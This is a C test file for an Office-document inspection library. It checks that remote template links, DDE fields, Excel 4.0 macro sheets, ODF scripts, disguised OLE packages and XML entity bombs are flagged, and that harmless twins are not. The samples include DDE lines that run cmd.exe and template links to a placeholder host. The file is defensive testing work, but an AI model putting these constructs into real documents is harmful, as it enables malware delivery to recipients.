/*
 * test_inspect_office.c - active content in Office documents (inspect.h):
 * the XML parts read with libxml2 (relationships in any encoding, case
 * and prefix, DDE fields, Excel macro sheets and DDE links, Word 2003
 * XML, Flat OPC, ODF manifests and scripts), the parser's limits, and in
 * OLE2 files the OLE Package objects and BIFF8 macro sheets. Each threat
 * has a harmless twin that must give nothing.
 */
#include "airlock/inspect.h"
#include "support/samples.h"

#include <string.h>

#define EXEC AL_REASON_BIT(AL_REASON_EXECUTABLE)
#define MACRO AL_REASON_BIT(AL_REASON_MACRO)
#define ENCR AL_REASON_BIT(AL_REASON_ENCRYPTED)
#define LIMITS AL_REASON_BIT(AL_REASON_LIMITS)

#define REL_NS "http://schemas.openxmlformats.org/package/2006/relationships"
#define REL_TYPE "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

/* Inspects; *details_r (when asked) gets every sentence joined by '\n'. */
static al_reason_set inspect(const void *data, gsize len, const char *name, char **details_r)
{
	g_autoptr(GPtrArray) details = g_ptr_array_new_with_free_func(g_free);
	al_reason_set reasons = al_inspect_buffer(data, len, name, details);

	g_assert_cmpuint(details->len, >=, (guint)__builtin_popcount(reasons));
	if (details_r != NULL) {
		g_ptr_array_add(details, NULL);
		*details_r = g_strjoinv("\n", (char **)details->pdata);
	}
	return reasons;
}

static al_reason_set inspect_text(const char *text, const char *name)
{
	return inspect(text, strlen(text), name, NULL);
}

/* ------------------------------------------------------------ relationships */

static void test_office_relationships_table(void)
{
	static const struct {
		const char *label;
		const char *name;
		const char *xml;
		al_reason_set want;
	} cases[] = {
		{ "remote template", "settings.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		  "attachedTemplate\" Target=\"http://198.51.100.7/t.dotm\" "
		  "TargetMode=\"External\"/></Relationships>",
		  MACRO },
		{ "prefix, attribute order, blanks, case", "SETTINGS.XML.RELS",
		  "<?xml version=\"1.0\"?>\n<pr:Relationships xmlns:pr=\"" REL_NS "\">\n"
		  "  <pr:Relationship\n\tTargetMode = 'external'\n\tTarget='\\\\198.51.100.7\\s\\t.dot'"
		  "\n\tType='" REL_TYPE "attachedTemplate' Id='rId9' />\n</pr:Relationships>",
		  MACRO },
		{ "external hyperlink", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		  "hyperlink\" Target=\"https://www.example.org/a.docx\" "
		  "TargetMode=\"External\"/></Relationships>",
		  0 },
		{ "linked picture", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		  "image\" Target=\"https://www.example.org/logo.png\" "
		  "TargetMode=\"External\"/></Relationships>",
		  0 },
		{ "external picture that is a document", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		  "image\" Target=\"file://198.51.100.7/share/x.RTF?a\" "
		  "TargetMode=\"External\"/></Relationships>",
		  MACRO },
		{ "vba project", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"http://"
		  "schemas.microsoft.com/office/2006/relationships/vbaProject\" "
		  "Target=\"vbaProject.bin\"/></Relationships>",
		  MACRO },
		{ "excel 4.0 macro sheet", "workbook.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId2\" Type=\"http://"
		  "schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
		  "Target=\"macrosheets/sheet1.xml\"/></Relationships>",
		  MACRO },
		{ "macro sheet target under another type", "workbook.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId2\" Type=\"" REL_TYPE
		  "worksheet\" Target=\"MACROSHEETS/sheet1.xml\"/></Relationships>",
		  MACRO },
		{ "activex control", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId5\" Type=\"" REL_TYPE
		  "control\" Target=\"activeX/activeX1.xml\"/></Relationships>",
		  MACRO },
		{ "ordinary parts", "document.xml.rels",
		  "<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		  "styles\" Target=\"styles.xml\"/><Relationship Id=\"rId2\" Type=\"" REL_TYPE
		  "oleObject\" Target=\"embeddings/Microsoft_Excel_Worksheet.xlsx\"/>"
		  "</Relationships>",
		  0 },
		{ "relationships outside a .rels part need their namespace", "notes.xml",
		  "<Relationships><Relationship Type=\"" REL_TYPE "attachedTemplate\" "
		  "Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships>",
		  0 },
	};

	for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_test_message("case: %s", cases[i].label);
		g_assert_cmphex(inspect_text(cases[i].xml, cases[i].name), ==, cases[i].want);
	}
}

static void test_office_relationships_utf16(void)
{
	static const char xml[] =
		"<?xml version=\"1.0\" encoding=\"UTF-16\" standalone=\"yes\"?>\r\n"
		"<Relationships xmlns=\"" REL_NS
		"\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE "oleObject\" "
		"Target=\"http://198.51.100.7/x.rtf\" TargetMode=\"External\"/></Relationships>";
	gsize len = 0;
	g_autofree char *utf16 = g_convert(xml, -1, "UTF-16LE", "UTF-8", NULL, &len, NULL);
	g_autoptr(GByteArray) bytes = g_byte_array_new();
	g_autofree char *details = NULL;

	g_assert_nonnull(utf16);
	g_byte_array_append(bytes, (const guint8 *)"\xFF\xFE", 2);
	g_byte_array_append(bytes, (const guint8 *)utf16, (guint)len);
	g_assert_cmphex(inspect(bytes->data, bytes->len, "document.xml.rels", &details), ==, MACRO);
	g_assert_nonnull(strstr(details, "http://198.51.100.7/x.rtf"));
	g_assert_nonnull(strstr(details, "oleObject"));
}

/* A relationship that straddles the parser's 64 KiB chunks. */
static void test_office_relationships_chunk_boundary(void)
{
	g_autoptr(GString) xml = g_string_new("<Relationships xmlns=\"" REL_NS "\">");

	while (xml->len < 65536 - 40)
		g_string_append(xml, "<Relationship Id=\"a\" Type=\"" REL_TYPE
				     "styles\" Target=\"styles.xml\"/>");
	g_string_append(xml, "<Relationship Id=\"b\" Type=\"" REL_TYPE "attachedTemplate\" "
			     "Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/>"
			     "</Relationships>");
	g_assert_cmphex(inspect(xml->str, xml->len, "settings.xml.rels", NULL), ==, MACRO);
}

/* ------------------------------------------------------------ fields, sheets */

static void test_office_dde_fields(void)
{
	static const struct {
		const char *label;
		const char *body;
		al_reason_set want;
	} cases[] = {
		{ "DDEAUTO split across runs",
		  "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space="
		  "\"preserve\"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\"
		  "system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar "
		  "w:fldCharType=\"end\"/></w:r>",
		  MACRO },
		{ "quoted lower-case dde in fldSimple",
		  "<w:fldSimple w:instr=' \"dde\" notepad x'><w:r><w:t>x</w:t></w:r></w:fldSimple>",
		  MACRO },
		{ "remote INCLUDETEXT",
		  "<w:fldSimple w:instr='INCLUDETEXT \"http://198.51.100.7/a.docx\"'/>", MACRO },
		{ "page number and a word starting with DDE",
		  "<w:fldSimple w:instr=' PAGE '/><w:r><w:fldChar w:fldCharType=\"begin\"/>"
		  "</w:r><w:r><w:instrText>DDEX</w:instrText></w:r><w:r><w:fldChar "
		  "w:fldCharType=\"end\"/></w:r><w:r><w:t>DDEAUTO in plain text</w:t></w:r>",
		  0 },
	};

	for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autofree char *xml = g_strdup_printf(
			"<w:document xmlns:w=\"" W_NS "\"><w:body><w:p>%s</w:p></w:body>"
			"</w:document>",
			cases[i].body);

		g_test_message("case: %s", cases[i].label);
		g_assert_cmphex(inspect_text(xml, "document.xml"), ==, cases[i].want);
	}
}

static void test_office_excel(void)
{
	static const char dde_link[] =
		"<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"A0\" "
		"advise=\"1\"/></ddeItems></ddeLink></externalLink>";
	static const char macro_sheet[] =
		"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">"
		"<xm:sheetData/></xm:macrosheet>";
	static const char formulas[] =
		"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<sheetData><row><c r=\"A1\"><f>SUM(B1:B3)&amp;\"a|b!\"</f></c>"
		"<c r=\"A2\"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>";
	static const char clean_formulas[] =
		"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<sheetData><row><c r=\"A1\"><f>SUM(B1:B3)&amp;\"a|b!\"</f></c></row></sheetData>"
		"</worksheet>";
	static const char auto_open[] =
		"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
		"</definedNames></workbook>";
	static const char types[] =
		"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Override PartName=\"/XL/MACROSHEETS/SHEET1.XML\" ContentType=\"application/"
		"vnd.ms-excel.macrosheet+xml\"/></Types>";
	static const char clean_types[] =
		"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
		"vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>";

	g_assert_cmphex(inspect_text(dde_link, "externalLink1.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(macro_sheet, "sheet1.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(formulas, "sheet1.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(clean_formulas, "sheet1.xml"), ==, 0);
	g_assert_cmphex(inspect_text(auto_open, "workbook.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(types, "[Content_Types].xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(clean_types, "[Content_Types].xml"), ==, 0);
}

/* ------------------------------------------------------------ Word 2003, flat OPC */

static void test_office_word2003_and_flat_opc(void)
{
#define W2003 "<?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"" \
	"http://schemas.microsoft.com/office/word/2003/wordml\">"
	static const char editdata[] =
		W2003 "<w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQAAAA==</w:binData>"
		"<w:body/></w:wordDocument>";
	static const char activemime[] =
		W2003 "<w:body><w:pict><w:binData w:name=\"wordml://03000001.png\">\n"
		"  QWN0aXZl\n  TWltZQAA</w:binData></w:pict></w:body></w:wordDocument>";
	static const char supp[] =
		W2003 "<w:docSuppData><w:binData w:name=\"x\">AAAA</w:binData></w:docSuppData>"
		"</w:wordDocument>";
	static const char clean[] =
		W2003 "<w:body><w:p><w:r><w:t>Compte rendu</w:t></w:r></w:p><w:pict><w:binData "
		"w:name=\"wordml://1.png\">iVBORw0KGgo=</w:binData></w:pict></w:body>"
		"</w:wordDocument>";
	static const char flat[] =
		"<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
		"<pkg:part pkg:name=\"/word/document.xml\" pkg:contentType=\"application/vnd."
		"openxmlformats-officedocument.wordprocessingml.document.main+xml\"><pkg:xmlData>"
		"<w:document xmlns:w=\"" W_NS "\"/></pkg:xmlData></pkg:part>"
		"<pkg:part pkg:name=\"/WORD/VBAPROJECT.BIN\" pkg:contentType=\"application/"
		"octet-stream\"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part>"
		"</pkg:package>";
	static const char flat_template[] =
		"<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
		"<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData>"
		"<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		"attachedTemplate\" Target=\"https://198.51.100.7/t.dotm\" TargetMode=\"External\"/>"
		"</Relationships></pkg:xmlData></pkg:part></pkg:package>";

	g_assert_cmphex(inspect_text(editdata, "report.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(activemime, "report.doc"), ==, MACRO);
	g_assert_cmphex(inspect_text(supp, "report.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(clean, "report.xml"), ==, 0);
	g_assert_cmphex(inspect_text(flat, "report.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(flat_template, "report.xml"), ==, MACRO);
#undef W2003
}

/* ------------------------------------------------------------ ODF */

static void test_office_odf(void)
{
#define MANIFEST "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:" \
	"manifest:1.0\" manifest:version=\"1.3\"><manifest:file-entry manifest:full-path=\"/\" " \
	"manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
#define CONTENT "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:" \
	"xmlns:office:1.0\" xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" " \
	"xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\">"
	static const char basic[] =
		MANIFEST "<manifest:file-entry manifest:full-path=\"Basic/Standard/Module1.xml\" "
		"manifest:media-type=\"text/xml\"/></manifest:manifest>";
	static const char encrypted[] =
		MANIFEST "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type"
		"=\"text/xml\" manifest:size=\"3000\"><manifest:encryption-data manifest:checksum-"
		"type=\"SHA1/1K\" manifest:checksum=\"AAAA\"><manifest:algorithm manifest:algorithm-"
		"name=\"Blowfish CFB\" manifest:initialisation-vector=\"AAAA\"/></manifest:"
		"encryption-data></manifest:file-entry></manifest:manifest>";
	static const char clean_manifest[] =
		MANIFEST "<manifest:file-entry manifest:full-path=\"content.xml\" "
		"manifest:media-type=\"text/xml\"/><manifest:file-entry manifest:full-path=\""
		"Pictures/1.png\" manifest:media-type=\"image/png\"/></manifest:manifest>";
	static const char listener[] =
		CONTENT "<office:scripts/><office:body><office:text><text:p>x</text:p>"
		"</office:text></office:body><office:event-listeners><script:event-listener "
		"script:language=\"ooo:script\" script:event-name=\"office:load\" xlink:href=\""
		"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\" "
		"xmlns:xlink=\"http://www.w3.org/1999/xlink\"/></office:event-listeners>"
		"</office:document-content>";
	static const char clean_content[] =
		CONTENT "<office:scripts/><office:body><office:text><text:p>Compte rendu</text:p>"
		"</office:text></office:body></office:document-content>";
	static const char module[] =
		"<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\""
		"Module1\" script:language=\"StarBasic\">Sub Main\nEnd Sub</script:module>";
	g_autofree char *details = NULL;

	g_assert_cmphex(inspect_text(basic, "manifest.xml"), ==, MACRO);
	g_assert_cmphex(inspect(encrypted, strlen(encrypted), "manifest.xml", &details), ==, ENCR);
	g_assert_nonnull(strstr(details, "password"));
	g_assert_cmphex(inspect_text(clean_manifest, "manifest.xml"), ==, 0);
	g_assert_cmphex(inspect_text(listener, "content.xml"), ==, MACRO);
	g_assert_cmphex(inspect_text(clean_content, "content.xml"), ==, 0);
	g_assert_cmphex(inspect_text(module, "Module1.xml"), ==, MACRO);
#undef MANIFEST
#undef CONTENT
}

/* ------------------------------------------------------------ limits */

static void test_office_parser_limits(void)
{
	static const char laughs[] =
		"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\">"
		"<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;"
		"&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
		"<Relationships xmlns=\"" REL_NS "\"><Relationship Type=\"" REL_TYPE "styles\" "
		"Target=\"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"/></Relationships>";
	static const char broken[] =
		"<Relationships xmlns=\"" REL_NS "\"><Relationship Id=\"rId1\" Type=\"" REL_TYPE
		"attachedTemplate\" Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rId2\" <<<";
	static const char xhtml[] =
		"<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Bonjour</body></html>";
	g_autofree char *details = NULL;
	g_autofree char *broken_details = NULL;
	g_autofree char *xhtml_details = NULL;
	g_autoptr(GString) deep = g_string_new("<Types xmlns=\"http://schemas.openxmlformats.org/"
					       "package/2006/content-types\">");

	g_assert_cmphex(inspect(laughs, strlen(laughs), "a.xml.rels", &details), ==, 0);
	g_assert_nonnull(strstr(details, "does not parse"));
	g_assert_cmphex(inspect(broken, strlen(broken), "a.xml.rels", &broken_details), ==, MACRO);
	g_assert_nonnull(strstr(broken_details, "does not parse"));
	g_assert_cmphex(inspect(xhtml, strlen(xhtml), "a.html", &xhtml_details), ==, 0);
	g_assert_cmpstr(xhtml_details, ==, "");
	/* Deep nesting ends as a parse error, never a crash. */
	for (int i = 0; i < 100000; i++)
		g_string_append(deep, "<a>");
	g_assert_cmphex(inspect(deep->str, deep->len, "[Content_Types].xml", NULL), ==, 0);
	for (gsize len = 0; len < sizeof(broken); len += 7)
		inspect(broken, len, "x.rels", NULL);
}

static void test_office_node_limit(void)
{
	g_autoptr(GString) xml = g_string_new("<Types xmlns=\"http://schemas.openxmlformats.org/"
					      "package/2006/content-types\">");
	g_autofree char *details = NULL;

	for (int i = 0; i < 2000001; i++)
		g_string_append(xml, "<a/>");
	g_string_append(xml, "</Types>");
	g_assert_cmphex(inspect(xml->str, xml->len, "[Content_Types].xml", &details), ==, LIMITS);
	g_assert_nonnull(strstr(details, "not fully inspected"));
}

/* ------------------------------------------------------------ OLE2 */

#define SECTOR 512
#define FREESECT 0xFFFFFFFFu
#define ENDOFCHAIN 0xFFFFFFFEu

/* A compound file with one stream, name, holding data: under 4096 bytes
 * in the mini stream (header, FAT, directory, mini FAT, mini stream),
 * otherwise in regular sectors (header, FAT, directory, data). */
static GByteArray *compound_file(const char *name, const guint8 *data, gsize len)
{
	gboolean mini = len < 4096;
	gsize unit = mini ? 64 : SECTOR;
	gsize units = (len + unit - 1) / unit;
	gsize data_sectors = (units * unit + SECTOR - 1) / SECTOR;
	gsize first_data = mini ? 3 : 2;
	GByteArray *file = g_byte_array_new();
	guint8 *p, *fat, *dir;

	g_byte_array_set_size(file, SECTOR * (1 + first_data + data_sectors));
	memset(file->data, 0, file->len);
	p = file->data;
	memcpy(p, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	put_le16(p + 24, 0x3E);
	put_le16(p + 26, 3);
	put_le16(p + 28, 0xFFFE);
	put_le16(p + 30, 9);
	put_le16(p + 32, 6);
	put_le32(p + 44, 1);
	put_le32(p + 48, 1);
	put_le32(p + 56, 4096);
	put_le32(p + 60, mini ? 2 : ENDOFCHAIN);
	put_le32(p + 64, mini ? 1 : 0);
	put_le32(p + 68, ENDOFCHAIN);
	for (int i = 0; i < 109; i++)
		put_le32(p + 76 + 4 * i, i == 0 ? 0 : FREESECT);
	fat = p + SECTOR;
	for (gsize i = 0; i < SECTOR / 4; i++)
		put_le32(fat + 4 * i, FREESECT);
	put_le32(fat, 0xFFFFFFFD);
	put_le32(fat + 4, ENDOFCHAIN);
	if (mini)
		put_le32(fat + 8, ENDOFCHAIN);
	for (gsize i = 0; i < data_sectors; i++)
		put_le32(fat + 4 * (first_data + i),
			 i + 1 < data_sectors ? (guint32)(first_data + i + 1) : ENDOFCHAIN);
	if (mini) {
		guint8 *minifat = p + SECTOR * 3;

		for (gsize i = 0; i < SECTOR / 4; i++)
			put_le32(minifat + 4 * i,
				 i + 1 < units ? (guint32)(i + 1) : i < units ? ENDOFCHAIN : FREESECT);
	}
	memcpy(p + SECTOR * (1 + first_data), data, len);
	dir = p + SECTOR * 2;
	put_le16(dir, 'R');
	put_le16(dir + 64, 4);
	dir[66] = 5;
	put_le32(dir + 116, mini ? (guint32)first_data : ENDOFCHAIN);
	put_le32(dir + 120, mini ? (guint32)(units * 64) : 0);
	dir += 128;
	for (gsize i = 0; name[i] != '\0'; i++)
		put_le16(dir + 2 * i, (guint8)name[i]);
	put_le16(dir + 64, (guint16)(2 * strlen(name) + 2));
	dir[66] = 2;
	put_le32(dir + 116, 0);
	put_le32(dir + 120, (guint32)len);
	/* The data sectors are numbered from first_data in the FAT. */
	if (!mini)
		put_le32(dir + 116, (guint32)first_data);
	return file;
}

static void test_office_ole_package(void)
{
	static const guint8 native[] =
		"\x60\x00\x00\x00\x02\x00"
		"facture.pdf.exe\0C:\\Users\\a\\facture.pdf.exe\0"
		"\x00\x00\x03\x00\x0c\x00\x00\x00" "C:\\t\\f.exe\0\x02\x00\x00\x00" "MZ";
	g_autoptr(GByteArray) package = compound_file("\x01Ole10Native", native, sizeof(native));
	g_autoptr(GByteArray) plain = compound_file("\x01" "CompObj", native, sizeof(native));
	g_autofree char *details = NULL;

	g_assert_cmphex(inspect(package->data, package->len, "oleObject1.bin", &details), ==, EXEC);
	g_assert_nonnull(strstr(details, "facture.pdf.exe"));
	g_assert_cmphex(inspect(plain->data, plain->len, "oleObject1.bin", NULL), ==, 0);
}

/* A BIFF8 workbook stream: BOF, one BOUNDSHEET of type sheet_type, EOF. */
static GByteArray *workbook(guint8 sheet_type)
{
	guint8 book[4096] = { 0 };
	guint8 *p = book;

	put_le16(p, 0x0809);
	put_le16(p + 2, 16);
	put_le16(p + 4, 0x0600);
	put_le16(p + 6, 0x0005);
	p += 20;
	put_le16(p, 0x0085);
	put_le16(p + 2, 14);
	p[8] = 0;
	p[9] = sheet_type;
	p[10] = 6;
	p[11] = 0;
	memcpy(p + 12, "Macro1", 6);
	p += 18;
	put_le16(p, 0x000A);
	return compound_file("Workbook", book, sizeof(book));
}

static void test_office_xls_macro_sheet(void)
{
	g_autoptr(GByteArray) xlm = workbook(1);
	g_autoptr(GByteArray) plain = workbook(0);
	g_autofree char *details = NULL;

	g_assert_cmphex(inspect(xlm->data, xlm->len, "book.xls", &details), ==, MACRO);
	g_assert_nonnull(strstr(details, "Macro1"));
	g_assert_cmphex(inspect(plain->data, plain->len, "book.xls", NULL), ==, 0);
	/* Cut anywhere: no crash, no finding out of thin air. */
	for (gsize len = 0; len < xlm->len; len += 97)
		inspect(xlm->data, len, "book.xls", NULL);
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/office/relationships", test_office_relationships_table);
	g_test_add_func("/office/relationships_utf16", test_office_relationships_utf16);
	g_test_add_func("/office/relationships_chunk_boundary",
			test_office_relationships_chunk_boundary);
	g_test_add_func("/office/dde_fields", test_office_dde_fields);
	g_test_add_func("/office/excel", test_office_excel);
	g_test_add_func("/office/word2003_flat_opc", test_office_word2003_and_flat_opc);
	g_test_add_func("/office/odf", test_office_odf);
	g_test_add_func("/office/parser_limits", test_office_parser_limits);
	g_test_add_func("/office/node_limit", test_office_node_limit);
	g_test_add_func("/office/ole_package", test_office_ole_package);
	g_test_add_func("/office/xls_macro_sheet", test_office_xls_macro_sheet);
	return g_test_run();
}
